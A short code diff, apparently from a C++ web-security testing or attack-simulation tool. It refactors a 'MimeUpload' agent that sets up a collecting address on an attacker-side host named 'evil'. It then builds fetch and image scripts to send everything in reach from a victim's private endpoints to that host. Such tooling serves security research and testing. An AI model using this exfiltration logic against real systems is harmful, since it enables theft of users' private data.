@@ -14,8 +14,7 @@ class MimeUpload final : public Agent {
     void run(Target& target) override {
         OwnHost* evil = foreign_host(target);
         if (evil == nullptr || target.victim() == nullptr) return;
-        evil->answer(evil->folder() + "c", {.status = 204});
-        std::string const address = address_on(*evil, "c");
+        std::string const address = collecting_address(*evil);
         std::string script = send_script(Channel::Fetch, address, kAllInReach) +
                              send_script(Channel::Image, address, kAllInReach);
         for (Endpoint const* each : private_endpoints(target))
